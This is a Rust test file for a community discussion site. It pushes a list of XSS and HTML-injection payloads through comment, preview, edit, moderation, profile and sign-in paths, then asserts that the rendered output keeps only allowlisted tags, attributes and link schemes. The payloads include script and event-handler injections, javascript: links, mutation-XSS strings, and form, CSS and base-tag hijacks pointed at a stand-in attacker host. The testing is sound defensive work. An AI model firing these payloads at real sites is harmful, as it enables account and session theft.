//! Hostile words through every way in: nothing of them runs anywhere.

use serde_json::json;

use crate::app::TestApp;

/// Each must be harmless wherever it is shown.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "[x](https://example.org \"t\" onmouseover=alert(1))",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in y %}",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<details open ontoggle=alert(1)>",
    "<div id=app name=token style=position:fixed>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a\u{a0}href=javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
];

#[test]
fn s61_to_s67_no_payload_runs_on_any_path() {
    let app = TestApp::start();
    let mut amina = app.member("Amina");
    let mut bilal = app.member("Bilal");
    let mut zainab = app.moderator("Zainab");
    let page = "/members/discussion?page=practices/circles";
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let case = format!("payload {n}: {payload}");
        // Create, through the API and through the form.
        let posted = amina.comment("practices/circles", payload);
        assert!(matches!(posted.status, 201 | 422), "{case}: {}", posted.text);
        let id = posted.json()["id"].as_str().map(str::to_owned);
        if posted.status == 201 {
            harmless_html(posted.json()["html"].as_str().unwrap(), &case);
        }
        let key = format!("form-{n}");
        let form = bilal.form(
            page,
            &[
                ("markdown", payload),
                ("language", "en"),
                ("key", &key),
                ("act", "post"),
                ("public_confirmed", "yes"),
            ],
        );
        assert!(matches!(form.status, 303 | 422), "{case}: {}", form.text);
        harmless_page(&form.text, &case);
        // Preview, both ways.
        let preview = amina.form(
            page,
            &[("markdown", payload), ("language", "en"), ("key", "p"), ("act", "preview")],
        );
        harmless_page(&preview.text, &case);
        let preview = amina.json("POST", "/api/v1/preview", json!({ "markdown": payload }));
        if preview.status == 200 {
            harmless_html(preview.json()["html"].as_str().unwrap(), &case);
        }
        let Some(id) = id else { continue };
        // Edit, and the form that edits.
        let edited = amina.json_with(
            "PATCH",
            &format!("/api/v1/comments/{id}"),
            json!({ "markdown": format!("changed\n\n{payload}") }),
            &[("if-match", "\"1\"")],
        );
        assert!(matches!(edited.status, 200 | 422), "{case}: {}", edited.text);
        if edited.status == 200 {
            harmless_html(edited.json()["html"].as_str().unwrap(), &case);
        }
        harmless_page(&amina.get(&format!("{page}&edit={id}")).text, &case);
        // Report with it as a note, look at it in the queue, hide with it as a reason.
        bilal.form(
            &format!("/members/comments/{id}/report"),
            &[("reason", "other"), ("note", payload)],
        );
        harmless_page(&bilal.get(&format!("/members/comments/{id}/report")).text, &case);
        if n % 8 == 0 {
            harmless_page(&zainab.get("/members/moderation").text, &case);
        }
        let hidden = zainab.form(&format!("/members/comments/{id}/hide"), &[("reason", payload)]);
        harmless_page(&hidden.text, &case);
        zainab.form(&format!("/members/comments/{id}/restore"), &[("reason", payload)]);
        // Names and addresses.
        let name = amina.form("/members/settings", &[("name", payload), ("language", "en")]);
        harmless_page(&name.text, &case);
        let joining = app.visitor().form(
            "/members/join",
            &[("name", payload), ("email", payload), ("about", payload), ("language", payload)],
        );
        harmless_page(&joining.text, &case);
        let escaped: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        harmless_page(
            &app.visitor()
                .get(&format!("/members/sign-in?next={escaped}&lang={escaped}&said={escaped}"))
                .text,
            &case,
        );
        harmless_page(
            &app.visitor().get(&format!("/members/discussion?page={escaped}")).text,
            &case,
        );
        amina.form("/members/settings", &[("name", "Amina"), ("language", "en")]);
    }
    harmless_page(&app.visitor().get(page).text, "the thread");
    harmless_page(&app.admin("Chidi").get("/members/audit").text, "the audit log");
    harmless_page(&amina.get("/members/record").text, "the record");
    let snapshot = app.visitor().get("/api/v1/snapshot").json();
    let mut htmls = 0;
    walk(&snapshot, &mut |key, text| {
        if key == "html" {
            htmls += 1;
            harmless_html(text, "the snapshot");
        }
    });
    assert!(htmls > 20, "{htmls}");
}

#[test]
fn s108_deceiving_characters_are_refused_and_scripts_welcome() {
    let app = TestApp::start();
    let mut amina = app.member("Amina");
    for bad in [
        "a\u{202e}b",
        "a\u{2066}b",
        "a\u{feff}b",
        "a\u{0}b",
        "a\u{7}b",
        "a\u{e0041}b",
        "a\u{fdd0}b",
        "a\u{85}b",
    ] {
        assert_eq!(
            amina.comment("practices/circles", bad).problem(),
            "422 text-character",
            "{bad:?}"
        );
    }
    for good in ["السلام عليكم", "می\u{200c}خواهم", "👩\u{200d}🌾", "a\u{200e}b", "नमस्ते"]
    {
        assert_eq!(amina.comment("practices/circles", good).status, 201, "{good}");
    }
}

/// Cleaned HTML: only the tags and attributes of the list.
fn harmless_html(html: &str, case: &str) {
    const TAGS: &[&str] = &[
        "p",
        "br",
        "hr",
        "em",
        "strong",
        "del",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "h3",
        "h4",
        "h5",
        "h6",
        "a",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "sup",
    ];
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap();
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(TAGS.contains(&name.as_str()), "{case}: <{name}> in {html}");
        let mut rest = &tag.trim_start_matches('/')[name.len()..];
        while let Some((attribute, more)) = rest.split_once("=\"") {
            let attribute = attribute.trim();
            let (value, more) = more.split_once('"').unwrap_or((more, ""));
            assert!(
                matches!(
                    (name.as_str(), attribute),
                    ("a", "href" | "rel")
                        | ("ol", "start")
                        | ("code", "class")
                        | ("th" | "td", "align")
                ),
                "{case}: {attribute} in {html}"
            );
            if attribute == "href" {
                let scheme = value.split(':').next().unwrap();
                assert!(matches!(scheme, "https" | "http" | "mailto"), "{case}: {value}");
            }
            rest = more;
        }
    }
}

/// A page: what a payload would have to become in order to run is not in it.
fn harmless_page(html: &str, case: &str) {
    let lower = html.to_lowercase();
    for bad in [
        "<script>",
        "<svg onload",
        "<svg><",
        "<math",
        "<iframe",
        "<img",
        "<base",
        "<style",
        "<object",
        "<embed",
        "<form action=https",
        "<meta http-equiv=refresh",
        "<details",
    ] {
        assert!(!lower.contains(bad), "{case}: {bad} in {html}");
    }
    // The product that a template engine would make; a request's id may begin with the same digits.
    for product in [">49<", ">49 ", ">49\n"] {
        assert!(!html.contains(product), "{case}");
    }
    for tag in lower.split('<').skip(1) {
        // An escaped quote cannot end an attribute; a handler would have to stand in a real tag.
        let tag = tag.split('>').next().unwrap();
        for bad in ["=\"javascript", "=\"data:", "=\"vbscript"] {
            assert!(
                !tag.contains(&format!("href{bad}")) && !tag.contains(&format!("action{bad}")),
                "{case}: {tag}"
            );
        }
        let outside: String = tag.split('"').step_by(2).collect();
        for handler in [" onerror", " onload", " onmouseover", " ontoggle", " onbegin"] {
            assert!(!outside.contains(handler), "{case}: {tag}");
        }
    }
}

fn walk(value: &serde_json::Value, seen: &mut impl FnMut(&str, &str)) {
    match value {
        serde_json::Value::Object(fields) => {
            for (key, value) in fields {
                if let Some(text) = value.as_str() {
                    seen(key, text);
                }
                walk(value, seen);
            }
        }
        serde_json::Value::Array(values) => values.iter().for_each(|value| walk(value, seen)),
        _ => {}
    }
}
